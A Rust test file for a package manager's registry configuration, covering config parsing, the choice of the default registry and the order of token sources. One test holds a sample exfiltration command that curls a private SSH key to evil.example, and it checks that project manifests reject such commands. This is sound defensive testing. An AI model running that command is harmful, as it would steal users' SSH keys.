//! The configuration rules of named registries: parsing, the choice of the
//! default registry, and where tokens come from.

use super::*;
use crate::project::manifest::{self, Manifest};

/// A temporary home: a user config folder and a project folder.
struct Home {
    dir: tempfile::TempDir,
}

impl Home {
    fn new() -> Self {
        Self {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn environment(&self) -> Environment {
        Environment {
            config_dir: Some(self.dir.path().join("config")),
            ..Environment::default()
        }
    }

    fn config_file(&self) -> PathBuf {
        self.dir.path().join("config/skillpkg/config.toml")
    }

    fn write_config(&self, text: &str) {
        fs_err::create_dir_all(self.config_file().parent().unwrap()).unwrap();
        fs_err::write(self.config_file(), text).unwrap();
    }

    fn project(&self) -> PathBuf {
        self.dir.path().join("project")
    }

    fn write_manifest(&self, text: &str) -> Manifest {
        fs_err::create_dir_all(self.project()).unwrap();
        fs_err::write(self.project().join("skills.toml"), text).unwrap();
        manifest::read(&self.project()).unwrap()
    }

    fn load(&self, manifest: Option<&Manifest>, flag: Option<&str>) -> anyhow::Result<Registries> {
        Registries::load(
            self.environment(),
            manifest.map(Manifest::registry_config).as_ref(),
            flag,
        )
    }
}

fn url(text: &str) -> RegistryUrl {
    text.parse().unwrap()
}

fn parse(text: &str, kind: ConfigFile) -> anyhow::Result<BTreeMap<String, RegistrySpec>> {
    let table: toml::Table = text.parse().unwrap();
    parse_tables(
        &table["registries"],
        Path::new("/etc/skillpkg/config.toml"),
        kind,
    )
}

fn message(error: &anyhow::Error) -> String {
    format!(
        "{error:#}\nhint: {}",
        crate::outcome::hint(error).unwrap_or_default()
    )
}

#[test]
fn every_key_of_a_registry_table_is_read_and_relative_paths_are_the_files() {
    let key = skillpkg_index::signing::SecretKey::generate()
        .unwrap()
        .public();
    let specs = parse(
        &format!(
            "[registries.corp-eu]\nindex = \"https://corp.example/skills\"\nmirror = \"mirror/tree\"\nfallback-to-origin = true\nroot-key = \"{}\"\nrequire-signatures = true\ntoken-command = \"pass show corp\"\n\n[registries.small]\nindex = \"file:///srv/small\"\n",
            key.to_base64()
        ),
        ConfigFile::User,
    )
    .unwrap();
    let corp = &specs["corp-eu"];
    assert_eq!(corp.name, "corp-eu");
    assert_eq!(corp.index, url("https://corp.example/skills/"));
    assert_eq!(corp.mirror, Some(url("file:///etc/skillpkg/mirror/tree/")));
    assert!(corp.fallback_to_origin && corp.require_signatures);
    assert_eq!(corp.root_key.as_ref(), Some(&key));
    assert_eq!(corp.token_command.as_deref(), Some("pass show corp"));
    assert_eq!(
        corp.definition,
        Definition::Table("/etc/skillpkg/config.toml".into())
    );
    let small = &specs["small"];
    assert!(small.mirror.is_none() && !small.fallback_to_origin && !small.require_signatures);
    assert!(small.root_key.is_none() && small.token_command.is_none());
}

#[test]
fn a_bad_registry_table_is_an_error_naming_the_table_the_key_and_the_file() {
    let error = parse(
        "[registries.corp]\nindex = \"https://corp.example\"\nmirorr = \"x\"\n",
        ConfigFile::User,
    )
    .unwrap_err();
    let text = message(&error);
    assert!(text.contains("`[registries.corp]`"), "{text}");
    assert!(text.contains("unknown key `mirorr`"), "{text}");
    assert!(text.contains("/etc/skillpkg/config.toml"), "{text}");
    assert!(
        text.contains("`fallback-to-origin`"),
        "the hint lists the keys: {text}"
    );

    for (table, expected) in [
        (
            "[registries.Corp]\nindex = \"https://c.example\"\n",
            "not a registry name",
        ),
        (
            "[registries.corp_eu]\nindex = \"https://c.example\"\n",
            "not a registry name",
        ),
        (
            "[registries.corp]\nmirror = \"https://c.example\"\n",
            "has no `index`",
        ),
        (
            "[registries.corp]\nindex = \"ftp://c.example\"\n",
            "`index` of `[registries.corp]`",
        ),
        (
            "[registries.corp]\nindex = \"https://c.example\"\nroot-key = \"RWnope\"\n",
            "not a minisign public key",
        ),
        (
            "[registries.corp]\nindex = \"https://c.example\"\nrequire-signatures = \"yes\"\n",
            "not true or false",
        ),
        (
            "[registries.corp]\nindex = \"https://c.example\"\ntoken-command = \" \"\n",
            "empty `token-command`",
        ),
    ] {
        let error = parse(table, ConfigFile::User).unwrap_err();
        assert!(
            message(&error).contains(expected),
            "{table}: {}",
            message(&error)
        );
    }
}

#[test]
fn a_token_command_in_skills_toml_is_refused() {
    let error = parse(
        "[registries.corp]\nindex = \"https://corp.example\"\ntoken-command = \"curl https://evil.example/$(cat ~/.ssh/id_ed25519)\"\n",
        ConfigFile::Manifest,
    )
    .unwrap_err();
    let text = message(&error);
    assert!(text.contains("`[registries.corp]`"), "{text}");
    assert!(
        text.contains("`token-command`, which skills.toml may not have"),
        "{text}"
    );
    assert!(text.contains("user config.toml"), "{text}");
    assert!(text.contains("SKILLPKG_REGISTRY_CORP_TOKEN"), "{text}");
}

#[test]
fn the_default_registry_is_the_flag_then_the_environment_then_the_manifest_then_the_user_config() {
    let home = Home::new();
    home.write_config(
        "registry = \"user\"\n[registries.user]\nindex = \"https://user.example\"\n[registries.default]\nindex = \"https://default.example\"\n",
    );
    let manifest = home.write_manifest(
        "[registry]\nurl = \"project\"\n[registries.project]\nindex = \"https://project.example\"\n[registries.env]\nindex = \"https://env.example\"\nmirror = \"https://env-mirror.example\"\n",
    );
    let chosen = |environment: Environment, manifest: Option<&Manifest>, flag: Option<&str>| {
        let registries = Registries::load(
            environment,
            manifest.map(Manifest::registry_config).as_ref(),
            flag,
        )
        .unwrap();
        let spec = registries.default_registry().unwrap();
        (registries.default_name().to_owned(), spec.index.to_string())
    };
    let user_only = home.environment();
    assert_eq!(
        chosen(user_only.clone(), None, None),
        ("user".into(), "https://user.example/".into())
    );
    assert_eq!(
        chosen(user_only.clone(), Some(&manifest), None),
        ("project".into(), "https://project.example/".into())
    );
    let mut with_variable = user_only.clone();
    with_variable.registry = Some("https://env-mirror.example/".into());
    assert_eq!(
        chosen(with_variable.clone(), Some(&manifest), None),
        ("env".into(), "https://env.example/".into()),
        "a URL of a configured registry's mirror is that registry"
    );
    assert_eq!(
        chosen(
            with_variable,
            Some(&manifest),
            Some("https://elsewhere.example")
        ),
        ("default".into(), "https://elsewhere.example/".into()),
        "any other URL is the unnamed default"
    );
    assert_eq!(
        chosen(user_only, Some(&manifest), Some("user")),
        ("user".into(), "https://user.example/".into())
    );

    // With nothing chosen, `[registries.default]` is the default.
    home.write_config("[registries.default]\nindex = \"https://default.example\"\n");
    assert_eq!(
        chosen(home.environment(), None, None),
        ("default".into(), "https://default.example/".into())
    );
}

#[test]
fn an_unknown_registry_name_lists_the_configured_ones() {
    let home = Home::new();
    home.write_config(
        "[registries.corp]\nindex = \"https://corp.example\"\n[registries.eu]\nindex = \"https://eu.example\"\n",
    );
    let error = home.load(None, Some("crop")).unwrap_err();
    let text = message(&error);
    assert!(
        text.contains("--registry names the registry `crop`, which is not configured"),
        "{text}"
    );
    assert!(text.contains("`corp`, `eu`"), "{text}");
    assert!(text.contains("[registries.crop]"), "{text}");

    let registries = home.load(None, None).unwrap();
    let error = registries.get("nowhere").unwrap_err();
    assert!(
        message(&error).contains("no registry named `nowhere`"),
        "{}",
        message(&error)
    );
    assert_eq!(
        crate::outcome::exit_status(&error),
        crate::error::ExitStatus::Failure
    );
}

#[test]
fn no_default_registry_anywhere_names_every_way_to_configure_one() {
    let home = Home::new();
    let registries = home.load(None, None).unwrap();
    assert_eq!(registries.default_name(), "default");
    let error = registries.default_registry().unwrap_err();
    assert_eq!(error.to_string(), "no registry is configured");
    let hint = crate::outcome::hint(&error).unwrap();
    assert!(hint.contains("--registry URL"), "{hint}");
    assert!(hint.contains("SKILLPKG_REGISTRY=URL"), "{hint}");
    assert!(
        hint.contains(&home.config_file().display().to_string()),
        "{hint}"
    );
    assert!(hint.contains("[registries.default]"), "{hint}");
}

#[test]
fn bad_default_registry_values_name_where_they_came_from() {
    let home = Home::new();
    home.write_config("registry = \"ftp://example.com\"\n");
    let error = home.load(None, None).unwrap_err();
    assert!(error.to_string().contains("config.toml"), "{error}");

    let mut environment = home.environment();
    environment.registry = Some("ftp://nonsense".into());
    let error = Registries::load(environment, None, None).unwrap_err();
    assert!(error.to_string().contains("SKILLPKG_REGISTRY"), "{error}");
}

#[test]
fn relative_paths_in_skills_toml_are_the_projects_and_a_folder_beats_an_unknown_name() {
    let home = Home::new();
    let manifest = home.write_manifest("[registry]\nurl = \"vendor\"\n");
    let error = home.load(Some(&manifest), None).unwrap_err();
    assert!(
        error
            .to_string()
            .contains("names the registry `vendor`, which is not configured"),
        "{error}"
    );
    fs_err::create_dir_all(home.project().join("vendor")).unwrap();
    let registries = home.load(Some(&manifest), None).unwrap();
    let spec = registries.default_registry().unwrap();
    assert!(!spec.is_named());
    assert_eq!(
        spec.index.as_url().to_file_path().unwrap(),
        home.project().join("vendor")
    );
}

#[test]
fn a_project_entry_replaces_the_users_and_keeps_its_token_command_only_for_the_same_index() {
    let home = Home::new();
    home.write_config(
        "[registries.corp]\nindex = \"https://corp.example\"\ntoken-command = \"pass corp\"\n[registries.eu]\nindex = \"https://eu.example\"\ntoken-command = \"pass eu\"\n",
    );
    let manifest = home.write_manifest(
        "[registries.corp]\nindex = \"https://corp.example/\"\nrequire-signatures = true\n[registries.eu]\nindex = \"https://evil.example\"\n",
    );
    let registries = home.load(Some(&manifest), None).unwrap();
    let corp = registries.find("corp").unwrap();
    assert!(corp.require_signatures, "the project's entry wins");
    assert_eq!(corp.token_command.as_deref(), Some("pass corp"));
    let eu = registries.find("eu").unwrap();
    assert_eq!(eu.index, url("https://evil.example/"));
    assert_eq!(
        eu.token_command, None,
        "a project that moves a name elsewhere does not get the user's token for it"
    );
}

#[test]
fn tokens_come_from_the_flag_the_variables_the_command_then_the_credentials_file() {
    let home = Home::new();
    home.write_config(
        "registry = \"corp\"\n[registries.corp]\nindex = \"https://corp.example\"\n[registries.eu]\nindex = \"https://eu.example\"\nmirror = \"https://eu-mirror.example\"\n[registries.cmd]\nindex = \"https://cmd.example\"\ntoken-command = \"printf '  from-command\\\\n'\"\n",
    );
    let mut environment = home.environment();
    let credentials = environment.credentials().unwrap();
    for (registry, token) in [
        ("https://corp.example", "corp-file"),
        ("https://eu.example", "eu-file"),
        ("https://eu-mirror.example", "eu-mirror-file"),
        ("https://cmd.example", "cmd-file"),
    ] {
        credentials
            .store(&url(registry), &token.parse().unwrap())
            .unwrap();
    }
    let token = |registries: &Registries, name: &str, at: Option<&str>| {
        let spec = registries.find(name).unwrap();
        let at = at.map_or_else(|| spec.index.clone(), url);
        registries
            .token(spec, &at)
            .unwrap()
            .map(|token| token.expose().to_owned())
    };
    let registries = Registries::load(environment.clone(), None, None).unwrap();
    assert_eq!(
        token(&registries, "corp", None).as_deref(),
        Some("corp-file")
    );
    assert_eq!(token(&registries, "eu", None).as_deref(), Some("eu-file"));
    assert_eq!(
        token(&registries, "eu", Some("https://eu-mirror.example")).as_deref(),
        Some("eu-mirror-file"),
        "a mirror's token is the credentials entry of the mirror"
    );
    assert_eq!(
        token(&registries, "cmd", None).as_deref(),
        Some("from-command"),
        "the command's trimmed output, before the credentials file"
    );

    // SKILLPKG_TOKEN is the default registry's (corp) only.
    environment.token = Some(skillpkg_index::secret::Secret::new("from-env"));
    let registries = Registries::load(environment.clone(), None, None).unwrap();
    assert_eq!(
        token(&registries, "corp", None).as_deref(),
        Some("from-env")
    );
    assert_eq!(token(&registries, "eu", None).as_deref(), Some("eu-file"));

    // SKILLPKG_REGISTRY_<NAME>_TOKEN beats SKILLPKG_TOKEN and the command.
    for (variable, value) in [
        ("SKILLPKG_REGISTRY_CORP_TOKEN", "corp-env"),
        ("SKILLPKG_REGISTRY_CMD_TOKEN", "cmd-env"),
    ] {
        environment
            .registry_tokens
            .insert(variable.into(), skillpkg_index::secret::Secret::new(value));
    }
    let registries = Registries::load(environment.clone(), None, None).unwrap();
    assert_eq!(
        token(&registries, "corp", None).as_deref(),
        Some("corp-env")
    );
    assert_eq!(token(&registries, "cmd", None).as_deref(), Some("cmd-env"));

    // --token beats everything, for the main registry only.
    let registries = Registries::load(environment, None, None)
        .unwrap()
        .with_token_flag(Some("from-flag".parse().unwrap()));
    assert_eq!(
        token(&registries, "corp", None).as_deref(),
        Some("from-flag")
    );
    assert_eq!(token(&registries, "eu", None).as_deref(), Some("eu-file"));
}

#[test]
fn a_failing_token_command_names_the_registry_and_the_command_never_the_output() {
    let home = Home::new();
    home.write_config(
        "[registries.corp]\nindex = \"https://corp.example\"\ntoken-command = \"echo s3cret-partial; exit 3\"\n[registries.quiet]\nindex = \"https://quiet.example\"\ntoken-command = \"true\"\n[registries.two]\nindex = \"https://two.example\"\ntoken-command = \"echo two words\"\n",
    );
    let registries = home.load(None, None).unwrap();
    let error_of = |name: &str| {
        let spec = registries.find(name).unwrap();
        message(&registries.token(spec, &spec.index).unwrap_err())
    };
    let text = error_of("corp");
    assert!(text.contains("token-command of registry `corp`"), "{text}");
    assert!(text.contains("`echo s3cret-partial; exit 3`"), "{text}");
    assert!(text.contains("exit status: 3"), "{text}");
    assert!(
        !text
            .replace("echo s3cret-partial", "")
            .contains("s3cret-partial"),
        "{text}"
    );
    let text = error_of("quiet");
    assert!(
        text.contains("registry `quiet`") && text.contains("printed nothing"),
        "{text}"
    );
    let text = error_of("two");
    assert!(text.contains("not a token"), "{text}");
    assert!(!text.contains("two words\n"), "{text}");
}

#[test]
fn a_missing_token_says_how_to_give_one_for_that_registry() {
    let home = Home::new();
    home.write_config("[registries.corp-eu]\nindex = \"https://corp.example\"\n");
    let registries = home
        .load(None, Some("https://elsewhere.example"))
        .unwrap()
        .with_token_flag(None);
    let error = registries
        .require_token(registries.find("corp-eu").unwrap())
        .unwrap_err();
    assert_eq!(
        error.to_string(),
        "no token for registry `corp-eu` (https://corp.example/)"
    );
    let hint = crate::outcome::hint(&error).unwrap();
    assert!(hint.contains("skillpkg login --registry corp-eu"), "{hint}");
    assert!(hint.contains("SKILLPKG_REGISTRY_CORP_EU_TOKEN"), "{hint}");
    assert!(hint.contains("token-command"), "{hint}");
    assert!(
        !hint.contains("--token") && !hint.contains("SKILLPKG_TOKEN"),
        "neither applies to a registry that is not the main one: {hint}"
    );

    let error = registries
        .require_token(registries.default_registry().unwrap())
        .unwrap_err();
    assert_eq!(error.to_string(), "no token for https://elsewhere.example/");
    assert_eq!(
        crate::outcome::hint(&error).unwrap(),
        "run `skillpkg login --registry https://elsewhere.example/`, pass `--token TOKEN`, or set SKILLPKG_TOKEN"
    );
}

#[test]
fn registry_names_are_lowercase_letters_digits_and_dashes() {
    for good in ["corp", "corp-eu", "r2", "default"] {
        assert!(is_valid_name(good), "{good}");
    }
    for bad in ["", "Corp", "corp_eu", "corp.eu", "https://x", "a/b", "é"] {
        assert!(!is_valid_name(bad), "{bad}");
    }
    assert_eq!(
        env_vars::registry_token("corp-eu"),
        "SKILLPKG_REGISTRY_CORP_EU_TOKEN"
    );
}
